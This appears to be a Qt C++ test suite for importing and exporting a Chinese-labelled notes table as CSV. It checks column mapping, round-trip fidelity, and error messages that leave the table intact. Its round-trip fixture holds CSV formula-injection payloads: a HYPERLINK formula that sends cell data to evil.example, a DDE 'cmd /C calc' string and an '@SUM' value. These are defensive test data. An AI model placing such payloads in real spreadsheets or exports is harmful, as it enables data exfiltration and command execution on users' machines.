// CSV import into a notes table: the starting mapping, export then import
// giving the same table, and refusals that name the line and column and
// leave the table as it was.
#include "ExchangeFixture.h"

#include "exchange/ExchangeError.h"
#include "exchange/NotesImport.h"
#include "exchange/TableExport.h"

#include <QBuffer>
#include <QFileInfo>
#include <QTest>

using namespace exchange;

class TestImport : public QObject, private ExchangeFixture {
    Q_OBJECT

    static QString plan(const QStringList &header)
    {
        QStringList out;
        const ImportPlan p = defaultPlan(header, db::Catalog(Database::notebook).columns("biji1"));
        for (const ImportTarget &t : p.targets)
            out << (t.action == ImportTarget::Skip ? QStringLiteral("-")
                    : t.action == ImportTarget::Create ? QStringLiteral("+") + t.column
                                                       : t.column);
        return out.join(QLatin1Char('|'));
    }

    static int import(const QString &table, const QByteArray &csv, Progress *progress = nullptr, const ImportPlan *plan = nullptr)
    {
        QBuffer buffer;
        buffer.setData(csv);
        buffer.open(QIODevice::ReadOnly);
        const QStringList header = Csv::parse(csv).header;
        return importNotes(Database::notebook, table, &buffer, Encoding::Utf8,
                           plan ? *plan : defaultPlan(header, db::Catalog(Database::notebook).columns(table)), progress);
    }

private slots:
    void init() { start(); }
    void cleanup() { stop(); }

    void mapping_data()
    {
        QTest::addColumn<QStringList>("header");
        QTest::addColumn<QString>("expected");
        QTest::newRow("same names") << QStringList{"时间", "备注", "PR"} << "时间|备注|PR";
        QTest::newRow("letter case and blanks") << QStringList{" pr ", "◆关键词1"} << "PR|◆关键词1";
        QTest::newRow("row key skipped") << QStringList{"AutoId", "时间"} << "-|时间";
        QTest::newRow("new column") << QStringList{"时间", "◆关键词2"} << "时间|+◆关键词2";
        QTest::newRow("unacceptable name skipped") << QStringList{"时间", "a,b", "[x]", ""} << "时间|-|-|-";
        QTest::newRow("second column of one name skipped") << QStringList{"PR", "pr", "新", "新"} << "PR|-|+新|-";
    }

    void mapping()
    {
        QFETCH(QStringList, header);
        QTEST(plan(header), "expected");
    }

    void exportThenImport()
    {
        db::Catalog(Database::notebook).appendColumn("biji1", column("◆关键词2", db::ColumnType::Text, 20, "百度*/谷歌*"));
        m_db->exec("INSERT INTO biji1([时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1],[◆关键词2]) VALUES"
                   "('2011-10-03','逗号, 引号\" 和\n换行','收入160/反向35','','无','3','百度8/谷歌6','百度1/谷歌2'),"
                   "('2011-09-05',NULL,'收入155/反向31','0','-3.5','007',' 空格 ','x'),"
                   "('2011-09-05','=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")','+cmd|'' /C calc''!A0','@SUM(1+1)',"
                   "'''=1','-3','''-x','\t')");
        const QString out = m_db->dir() + "/notes.csv";
        db::Connection conn;
        conn.open(Database::notebook);
        exportNotesTable(conn, "biji1", Format::Csv, out);
        conn.close();

        makeNotesTable("biji2");
        const QStringList header = Csv::inspect(out, 0).header;
        QCOMPARE(importFile(Database::notebook, "biji2", out, Encoding::Utf8,
                            defaultPlan(header, db::Catalog(Database::notebook).columns("biji2"))),
                 3);
        QCOMPARE(columnNames("biji2"), columnNames("biji1"));
        const QString columns = "[时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1],[◆关键词2]";
        QCOMPARE(rows("SELECT " + columns + " FROM biji2 ORDER BY AutoId"),
                 rows("SELECT " + columns + " FROM biji1 ORDER BY [时间], AutoId"));
        QVERIFY(rows("SELECT [备注] FROM biji2").contains("逗号, 引号\" 和\n换行"));
        // Line breaks arrive as LF from a file with CR LF or LF alike.
        QCOMPARE(import("biji2", "时间,备注\n2012-1-1,\"一\r\n二\n三\"\n"), 1);
        QCOMPARE(m_db->scalar("SELECT [备注] FROM biji2 WHERE [时间]='2012-01-01'").toString(), QStringLiteral("一\n二\n三"));
    }

    void refusals_data()
    {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("message");
        QTest::addColumn<QStringList>("plan"); // per CSV column =existing, +new or -; empty: the default
        QByteArray wide = "时间";
        for (int c = 0; c < 2000; ++c)
            wide += ",c" + QByteArray::number(c);
        QTest::newRow("more columns than a table holds") << wide + "\n" << "合计超过了数据库一个表最多" << QStringList();
        QTest::newRow("NUL in a value") << QByteArray("时间,备注\n2011-9-5,a\0b\n", 27) << "第 2 行“备注”列：文字含有空字符" << QStringList();
        QTest::newRow("cancelled") << QByteArray("时间,新项目\n2011-9-5,a\n") << "导入已取消，没有导入任何记录" << QStringList();
        QTest::newRow("unreadable date") << QByteArray("时间,PR,新项目\n2011-9-5,1,a\n2011-13-45,2,b\n")
                                         << "第 3 行“时间”列：无法识别的日期“2011-13-45”" << QStringList();
        QTest::newRow("empty date") << QByteArray("时间,PR\n2011-9-5,1\n,2\n") << "第 3 行“时间”列" << QStringList();
        QTest::newRow("over-long value") << QByteArray("时间,PR\n2011-9-5,12345678901\n")
                                         << "第 2 行“PR”列：内容有 11 个字，超过了该字段的长度 10" << QStringList();
        QTest::newRow("over-long in a multi-line file")
            << QByteArray("时间,备注,PR\n2011-9-5,\"一\n二\",1\n2011-9-6,x,\"" + QByteArray(11, '9') + "\"\n")
            << "第 4 行“PR”列" << QStringList();
        QTest::newRow("new column value past 255")
            << QByteArray("时间,新项目\n2011-9-5," + QByteArray(256, 'x') + "\n") << "第 2 行“新项目”列" << QStringList();
        QTest::newRow("disk full") << "时间,备注\n" + QByteArray("2011-9-5,").append(QByteArray(300, 'x')).append('\n').repeated(2000)
                                   << "磁盘已满，没有导入任何记录。请腾出空间后再试。" << QStringList();
        QTest::newRow("no date column") << QByteArray("备注,PR\nx,1\n") << "没有对应到“时间”的列" << QStringList();
        // A value the engine refuses (a unique index on PR, which holds 9): the third line is
        // refused after the second was sent and the new column made.
        QTest::newRow("engine refusal") << QByteArray("时间,PR,新项目\n2011-9-5,1,a\n2011-9-6,9,b\n")
                                        << "第 3 行：数据库拒绝写入…没有导入任何记录" << QStringList();
        // Mappings a user could pick that cannot work.
        const QByteArray two("a,b\n2011-9-5,1\n");
        QTest::newRow("one column twice") << two << "“时间”列被对应了两次" << QStringList{"=时间", "=时间"};
        QTest::newRow("row key") << two << "自动编号" << QStringList{"=时间", "=AutoId"};
        QTest::newRow("new name taken") << two << "新字段名“pr”" << QStringList{"=时间", "+pr"};
        QTest::newRow("gone column") << two << "表中没有“没有”列" << QStringList{"=时间", "=没有"};
        QTest::newRow("plan of other columns") << two << "对应关系与文件的列数不符" << QStringList{"=时间"};
    }

    void refusals()
    {
        QFETCH(QByteArray, csv);
        QFETCH(QString, message);
        QFETCH(QStringList, plan);
        m_db->exec("INSERT INTO biji1([时间],[PR]) VALUES('2011-01-01','9')");
        if (QTest::currentDataTag() == QByteArray("engine refusal"))
            m_db->exec("CREATE UNIQUE INDEX once ON biji1([PR])");
        const QString before = rows("SELECT * FROM biji1");
        const QStringList columnsBefore = columnNames("biji1");
        Progress progress;
        progress.cancel = message.startsWith("导入已取消"); // as if 取消 was pressed at once
        ImportPlan chosen;
        for (const QString &t : plan)
            chosen.targets << ImportTarget{t[0] == '=' ? ImportTarget::Existing : t[0] == '+' ? ImportTarget::Create : ImportTarget::Skip,
                                           t.mid(1)};
        // A notebook that cannot grow beyond a few hundred bytes more (a file's limit, so not on a server).
        const bool full = message.startsWith("磁盘已满");
        if (full && TestDb::onServer())
            QSKIP("the server's disk is the server's");
        try {
            const FileSizeLimit limit(full ? QFileInfo(m_db->dbPath()).size() + 300 : 0);
            import("biji1", csv, &progress, plan.isEmpty() ? nullptr : &chosen);
            QFAIL("the import went through");
        } catch (const Failure &e) {
            for (const QString &part : message.split(u'…'))
                QVERIFY2(e.message().contains(part), qPrintable(e.message()));
        }
        QCOMPARE(rows("SELECT * FROM biji1"), before);
        QCOMPARE(columnNames("biji1"), columnsBefore);
    }
};

QTEST_MAIN(TestImport)
#include "tst_import.moc"
